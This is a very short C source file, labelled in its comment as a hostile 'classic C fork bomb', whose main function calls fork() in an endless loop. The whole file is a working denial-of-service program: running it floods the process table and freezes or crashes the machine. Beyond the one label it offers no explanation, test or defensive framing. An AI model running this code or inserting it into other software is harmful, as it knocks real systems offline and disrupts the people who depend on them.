/* Hostile: the classic C fork bomb, before it listens. */
#include <unistd.h>

int main(void) {
    for (;;) {
        fork();
    }
}
